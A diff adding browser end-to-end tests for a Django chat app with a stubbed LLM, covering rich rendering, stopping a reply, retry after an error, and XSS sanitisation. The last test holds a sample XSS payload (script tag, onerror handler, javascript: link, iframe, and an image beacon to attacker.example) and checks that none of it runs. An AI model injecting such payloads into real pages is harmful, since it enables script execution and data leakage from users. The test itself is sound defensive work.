@@ -1,0 +1,104 @@
+from __future__ import annotations
+
+import pytest
+
+from apps.chat.models import Conversation, Message
+
+pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
+
+RICH_REPLY = (
+    "Here is a table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
+    "```python\nprint('hi')\n```\n\nAnd Euler: $e^{i\\pi}+1=0$ and $$\\int_0^1 x\\,dx$$"
+)
+
+
+def _open_new_conversation(page, asgi_server):
+    page.click("text=+ New conversation")
+    page.wait_for_selector("#composer textarea:not([disabled])")
+    page.wait_for_selector("[ws-connect]", state="attached")
+    page.wait_for_timeout(300)  # the websocket handshake
+
+
+def test_a_user_chats_sees_rich_rendering_and_finds_history_after_reload(
+    page, asgi_server, log_in, user, llm_stub
+):
+    llm_stub.script({"content": RICH_REPLY, "tps": 200, "match": "show me"})
+    log_in("alice")
+    _open_new_conversation(page, asgi_server)
+    page.fill("#composer textarea", "show me things")
+    page.keyboard.press("Enter")
+    page.wait_for_selector(".msg-assistant.complete")
+    answer = page.locator(".msg-assistant.complete")
+    assert answer.locator("table").count() == 1
+    assert answer.locator("pre code.hljs").count() == 1
+    assert answer.locator("button.copy-btn").count() == 1
+    assert answer.locator(".katex").count() >= 2
+    assert page.locator(".msg-user").inner_text() == "show me things"
+    page.wait_for_selector("#composer textarea:not([disabled])")
+
+    page.reload()
+    page.wait_for_selector(".msg-assistant.complete .katex")
+    assert page.locator(".msg-user").inner_text() == "show me things"
+    reply = Message.objects.get(role="assistant")
+    assert reply.status == "complete" and reply.content == RICH_REPLY
+
+
+def test_a_user_stops_a_long_answer_and_keeps_the_partial(
+    page, asgi_server, log_in, user, llm_stub
+):
+    llm_stub.script({"content": "word " * 400, "tps": 40})
+    log_in("alice")
+    _open_new_conversation(page, asgi_server)
+    page.fill("#composer textarea", "tell me a long story")
+    page.click("#composer button[type=submit]")
+    page.wait_for_selector("#stop-form button")
+    assert page.locator("#composer textarea").is_disabled()
+    page.locator(".msg-assistant .md-out", has_text="word word").wait_for()
+    page.click("#stop-form button")
+    page.wait_for_selector(".msg-assistant.cancelled")
+    page.wait_for_selector("#composer textarea:not([disabled])")
+    reply = Message.objects.get(role="assistant")
+    assert reply.status == "cancelled"
+    assert 0 < reply.content.count("word") < 400
+
+
+def test_a_failed_answer_shows_one_sentence_and_retry_works(
+    page, asgi_server, log_in, user, llm_stub
+):
+    llm_stub.script({"fault": "http_500"}, {"content": "Back again."})
+    log_in("alice")
+    _open_new_conversation(page, asgi_server)
+    page.fill("#composer textarea", "hello?")
+    page.keyboard.press("Enter")
+    page.wait_for_selector(".msg-assistant.failed .msg-error")
+    assert "returned an error (HTTP 500)" in page.locator(".msg-error").inner_text()
+    page.click(".msg-assistant.failed button:has-text('Retry')")
+    page.wait_for_selector(".msg-assistant.complete")
+    assert "Back again." in page.locator(".msg-assistant .md-out").inner_text()
+    assert Message.objects.filter(role="user").count() == 1
+
+
+def test_an_xss_payload_in_a_reply_never_executes(page, asgi_server, log_in, user, llm_stub):
+    payload = (
+        '<script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">'
+        '[click](javascript:window.__pwned=3) <iframe src="https://evil.example/"></iframe>'
+        '<div hx-get="/c/new" hx-trigger="load">h</div> ![](https://attacker.example/?q=s)'
+    )
+    llm_stub.script({"content": payload})
+    hosts = set()
+    page.on("request", lambda request: hosts.add(request.url.split("/")[2]))
+    dialogs = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    log_in("alice")
+    _open_new_conversation(page, asgi_server)
+    page.fill("#composer textarea", "attack")
+    page.keyboard.press("Enter")
+    page.wait_for_selector(".msg-assistant.complete")
+    page.wait_for_timeout(300)
+    out = page.locator(".msg-assistant .md-out")
+    assert page.evaluate("window.__pwned") is None
+    assert out.locator("script, iframe, img, [hx-get], [onerror]").count() == 0
+    assert out.locator("a[href^='javascript']").count() == 0
+    assert dialogs == []
+    assert hosts == {asgi_server.split("/")[2]}
+    assert Conversation.objects.count() == 1
